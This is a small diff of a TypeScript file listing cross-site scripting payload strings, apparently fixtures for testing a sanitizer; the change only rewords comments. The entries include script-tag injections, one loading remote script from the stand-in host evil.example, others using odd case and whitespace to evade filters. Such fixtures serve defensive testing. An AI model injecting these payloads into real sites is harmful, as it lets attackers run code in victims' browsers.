@@ -1,9 +1,9 @@
 /**
  * Texts that try to run something where they are shown. None is longer than a name may be, and each is harmful as it is:
- * `moot(…)` stands for whatever an attacker would call.
+ * `moot(…)` stands for the script of an attacker.
  */
 export const payloads: readonly string[] = [
-  // Elements that run what is in them.
+  // Elements that run their content.
   '<script>moot(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT >',
   '<script\n>moot(3)</script\t\n bogus>',
